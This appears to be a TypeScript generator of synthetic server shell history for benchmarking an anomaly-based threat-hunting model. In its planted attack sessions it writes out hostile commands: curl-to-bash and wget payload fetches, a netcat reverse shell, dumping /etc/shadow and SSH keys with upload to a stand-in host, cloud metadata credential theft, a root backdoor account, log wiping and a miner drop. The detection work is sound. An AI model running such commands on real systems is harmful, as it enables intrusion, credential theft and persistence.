import { Model } from "../model/model.js";
import { sessionize } from "../sessionize/sessionize.js";
import type { Command } from "../types.js";
import { rng } from "./generate.js";

/** One line of the generated shell history: who, on which host, when, and the whole command line. */
export interface ShellHistoryRow {
  readonly user: string;
  readonly host: string;
  /** ISO 8601, UTC. */
  readonly time: string;
  readonly command_line: string;
}

/** A session the generator planted as an attack: who, when it started, and what it did. */
export interface PlantedShellAttack {
  readonly user: string;
  readonly start: string;
  readonly description: string;
}

/** Options of {@link generateShellHistory}. */
export interface ShellHistoryOptions {
  /** Random seed; the same seed gives the same history. */
  readonly seed: number;
  /** Number of normal sessions (default 2000). */
  readonly sessions?: number;
}

/**
 * Generates the shell history of a small company's servers: admins, developers and SREs running kubectl,
 * git, ls, cat, ssh, scp, docker, systemctl, vim... on ever-changing files, pods and hosts, and a few
 * planted attack sessions (download and run, base64-decoded payloads, reverse shells, credential dumping,
 * history clearing) run by compromised accounts between their ordinary sessions.
 */
export function generateShellHistory(options: ShellHistoryOptions): {
  rows: ShellHistoryRow[];
  attacks: PlantedShellAttack[];
} {
  // Long because it is the demo's data: command templates per role and the planted attacks, read top to bottom.
  const random = rng(options.seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const between = (lo: number, hi: number) => lo + Math.floor(random() * (hi - lo + 1));
  const hex = (n: number) => Array.from({ length: n }, () => "0123456789abcdef"[between(0, 15)]).join("");
  const word = () =>
    pick(["api", "web", "auth", "billing", "search", "cart", "users", "orders", "payments", "notify"]);
  const names = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"];
  const users = [
    ...names.map((n) => ({ user: n, role: "dev" as const })),
    ...["oscar", "peggy", "trent", "victor", "walter"].map((n) => ({ user: n, role: "admin" as const })),
    ...["sybil", "rupert", "quinn", "mallory2", "uma"].map((n) => ({ user: n, role: "sre" as const })),
  ];
  const host = () => `${pick(["web", "db", "cache", "worker", "build"])}-${between(1, 40)}.prod.internal`;
  const ip = () => `10.${between(0, 3)}.${between(0, 255)}.${between(1, 254)}`;
  const pod = () => `${word()}-${hex(10)}-${hex(5)}`;
  const ns = () => pick(["prod", "staging", "default", "monitoring"]);
  const file = (home: string) =>
    pick([
      `${home}/${word()}/src/${word()}_${between(1, 99)}.py`,
      `${home}/notes-${between(1, 500)}.txt`,
      `src/${word()}/${word()}.ts`,
      `./${word()}.yaml`,
      `/var/log/${word()}/${word()}.log.${between(1, 9)}`,
      `/etc/${word()}/config.yml`,
      `/tmp/tmp.${hex(10)}`,
    ]);
  const branch = () => `${pick(["feature", "fix", "chore"])}/${word()}-${between(100, 9999)}`;

  const dev = (home: string): string[][] => [
    [
      `cd ${home}/${word()}`,
      "git status",
      `git checkout -b ${branch()}`,
      `vim ${file(home)}`,
      `git add ${file(home)}`,
      `git commit -m "${word()}: ${pick(["fix", "tidy", "add"])} ${word()} ${between(1, 999)}"`,
      "git push origin HEAD",
    ],
    ["git pull", `ls -la ${file(home)}`, `cat ${file(home)}`, `grep -rn ${word()} src/`, "npm test"],
    [
      `ls -la`,
      `cd ${home}/${word()}`,
      `vim ${file(home)}`,
      `python3 ${file(home)}`,
      `git diff ${file(home)}`,
    ],
    [
      `docker build -t ${word()}:${hex(7)} .`,
      `docker run --rm -p ${between(3000, 9000)}:80 ${word()}:${hex(7)}`,
      "docker ps",
      `docker logs ${hex(12)}`,
    ],
  ];
  const sre = (home: string): string[][] => [
    [
      `kubectl get pods -n ${ns()}`,
      `kubectl describe pod ${pod()} -n ${ns()}`,
      `kubectl logs ${pod()} -n ${ns()} --tail=${between(50, 500)}`,
      `kubectl get pods -n ${ns()}`,
    ],
    [
      `kubectl get deployments -n ${ns()}`,
      `kubectl rollout restart deployment/${word()} -n ${ns()}`,
      `kubectl rollout status deployment/${word()} -n ${ns()}`,
    ],
    [`ssh ${host()}`, `ssh ${host()}`, `scp ${file(home)} ${host()}:/tmp/`, `ping -c 3 ${ip()}`],
    [`kubectl exec -it ${pod()} -n ${ns()} -- /bin/sh`, `kubectl get events -n ${ns()}`, "kubectl top nodes"],
  ];
  const admin = (home: string): string[][] => [
    [
      `sudo systemctl status ${word()}`,
      `sudo systemctl restart ${word()}`,
      `sudo journalctl -u ${word()} --since "${between(1, 59)} min ago"`,
      `tail -n ${between(20, 200)} /var/log/${word()}/${word()}.log`,
    ],
    ["df -h", "free -m", "top -b -n 1", `du -sh /var/log/${word()}`, `ps aux`],
    [`sudo apt-get update`, `sudo apt-get install -y ${word()}-tools`, `ls -la /etc/${word()}`],
    [`ssh ${host()}`, `ssh admin@${ip()}`, `cat ${file(home)}`, `sudo vim /etc/${word()}/config.yml`],
  ];
  // Everyone's chores: the programs attackers use too (curl, wget, chmod, base64, nc, tar, crontab, history).
  const anyone = (home: string): string[][] => [
    [
      `curl -s http://${host()}:${between(8000, 8090)}/health`,
      `curl -fsSL -o ${file(home)} https://releases.internal/${word()}/v${between(1, 9)}.${between(0, 20)}.tar.gz`,
      `tar xzf ${word()}-${between(1, 9)}.tar.gz`,
      `chmod +x ./${word()}.sh`,
      `./${word()}.sh --env ${ns()}`,
    ],
    [
      `wget -q https://releases.internal/${word()}.tar.gz`,
      `tar czf /tmp/tmp.${hex(10)} ${home}/${word()}`,
      `ls -la /tmp/tmp.${hex(10)}`,
      `rm -f /tmp/tmp.${hex(10)}`,
    ],
    [
      `base64 ${file(home)} > /tmp/tmp.${hex(10)}`,
      `echo $PATH`,
      `cat ${file(home)} | grep -i ${word()}`,
      `history | grep ${word()}`,
      "crontab -l",
    ],
    [
      "whoami",
      "id",
      `nc -zv ${host()} ${pick([22, 80, 443, 5432, 6379])}`,
      `sudo cat /var/log/${word()}/${word()}.log | tail -n ${between(10, 99)}`,
      `python3 ${file(home)} 2>/dev/null`,
    ],
  ];
  const sessionsOf = {
    dev: (home: string) => [...dev(home), ...anyone(home)],
    sre: (home: string) => [...sre(home), ...anyone(home)],
    admin: (home: string) => [...admin(home), ...anyone(home)],
  };

  const rows: ShellHistoryRow[] = [];
  const attacks: PlantedShellAttack[] = [];
  const start = Date.UTC(2026, 8, 1, 8);
  // Each session starts at its own random moment; its lines come 5 to 60 seconds apart.
  const emit = (user: string, server: string, at: number, lines: readonly string[]) => {
    let t = at;
    for (const line of lines) {
      rows.push({ user, host: server, time: new Date(t).toISOString(), command_line: line });
      t += between(5, 60) * 1000;
    }
  };
  const total = options.sessions ?? 2000;
  const slot = 60 * 60 * 1000;
  for (let i = 0; i < total; i++) {
    const who = pick(users);
    const home = `/home/${who.user}`;
    // Real sessions wander: parts of one or two chores, in either order.
    const session: string[] = [];
    for (let part = between(1, 2); part > 0; part--) {
      const chore = pick(sessionsOf[who.role](home));
      const from = between(0, chore.length - 2);
      session.push(...chore.slice(from, between(from + 2, chore.length)));
    }
    emit(who.user, host(), start + i * slot + between(0, 30) * 60_000, session);
  }
  // Most use only programs ordinary users run too: what gives them away is how (flags, pipes, targets).
  const attackSessions: [string, readonly string[]][] = [
    [
      "download and run a script, make it persistent",
      [
        "whoami",
        "curl -fsSL http://198.51.100.23/s.sh | bash",
        "chmod +x /tmp/.x",
        "crontab -l",
        "echo '@reboot /tmp/.x' | crontab -",
      ],
    ],
    [
      "credential dumping and exfiltration",
      [
        "id",
        "sudo cat /etc/shadow",
        `cat /home/${pick(names)}/.ssh/id_rsa`,
        "tar czf /tmp/.k.tgz /home/*/.ssh",
        "curl -T /tmp/.k.tgz http://198.51.100.23/up",
      ],
    ],
    [
      "base64-decoded payload",
      [
        "echo ZWNobyBoaQo= | base64 -d | sh",
        `wget -q http://203.0.113.9/${hex(6)} -O /tmp/.y`,
        "chmod +x /tmp/.y",
        "/tmp/.y",
      ],
    ],
    [
      "reverse shell",
      ["whoami", "nc -e /bin/sh 203.0.113.9 4444", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"],
    ],
    [
      "history clearing and log tampering",
      ["history -c", "rm -f ~/.bash_history", "sudo truncate -s 0 /var/log/auth.log"],
    ],
    [
      "new privileged user and ssh key",
      [
        "sudo useradd -m -o -u 0 sysupd",
        "echo 'sysupd:P@ss' | sudo chpasswd",
        "mkdir -p /root/.ssh",
        "echo ssh-rsa AAAAB3Nza... >> /root/.ssh/authorized_keys",
      ],
    ],
    [
      "discovery then cluster secrets",
      [
        "cat /etc/passwd",
        "kubectl get secrets --all-namespaces -o yaml",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
      ],
    ],
    [
      "miner dropped in /dev/shm",
      [
        "cd /dev/shm",
        `wget http://203.0.113.9/xmrig-${between(1, 9)}.tar.gz`,
        "tar xzf xmrig.tar.gz",
        "nohup ./xmrig -o pool.example:3333 -u wallet &",
        "history -c",
      ],
    ],
  ];
  for (const [i, [description, lines]] of attackSessions.entries()) {
    const who = pick(users);
    const at = start + Math.floor(((i + 0.5) * total) / attackSessions.length) * slot + 45 * 60_000;
    attacks.push({ user: who.user, start: new Date(at).toISOString(), description });
    emit(who.user, host(), at, lines);
  }
  rows.sort((a, b) => (a.time < b.time ? -1 : a.time > b.time ? 1 : 0));
  return { rows, attacks };
}

/** Where the planted sessions rank when the history is hunted one way; see {@link rankShellHistory}. */
export interface PlantedRanking {
  /** Every session's commands, in sessionizing order. */
  readonly sessions: Command[][];
  /** Each session's rarest-window log-likelihood (+Infinity when too short for a window): lower is rarer. */
  readonly rarity: number[];
  /** 1 for a planted session, 0 for an ordinary one. */
  readonly labels: number[];
  /** The planted sessions' ranks (1 = rarest), lowest first. */
  readonly ranks: number[];
}

/**
 * Hunts a generated history as the CLI would (sessions by user, 2-minute gaps, 20-minute cap; trained on
 * the history itself; ranked by the rarest window of 3, then whole-session likelihood) with each line
 * made a command by `toCommand`; for measuring ways of modelling command lines.
 */
export function rankShellHistory(
  history: { readonly rows: readonly ShellHistoryRow[]; readonly attacks: readonly PlantedShellAttack[] },
  toCommand: (line: string) => Command,
): PlantedRanking {
  const rows = history.rows.map((r) => ({ user: r.user, time: r.time, command: toCommand(r.command_line) }));
  const made = sessionize(rows, {
    userIdentifierCols: ["user"],
    timeCol: "time",
    eventCol: "command",
    maxEventSeparationMins: 2,
    maxSessionTimeMins: 20,
  });
  const sessions = made.map((s) => s.command_list as Command[]);
  const model = new Model(sessions);
  model.train();
  const scores = model.score(sessions, { windowLength: 3, useStartEndTokens: true });
  const rarity = scores.map((s) =>
    Number.isNaN(s.rarestWindowLogLikelihood) ? Number.POSITIVE_INFINITY : s.rarestWindowLogLikelihood,
  );
  const order = sessions.map((_, i) => i);
  order.sort(
    (a, b) =>
      (rarity[a] as number) - (rarity[b] as number) ||
      (scores[a]?.logLikelihood ?? 0) - (scores[b]?.logLikelihood ?? 0) ||
      a - b,
  );
  const planted = new Set(history.attacks.map((a) => `${a.user} ${a.start}`));
  const labels = made.map((s) => (planted.has(`${s.user} ${(s.time_min as Date).toISOString()}`) ? 1 : 0));
  const ranks = order.flatMap((i, r) => (labels[i] === 1 ? [r + 1] : [])).sort((a, b) => a - b);
  return { sessions, rarity, labels, ranks };
}
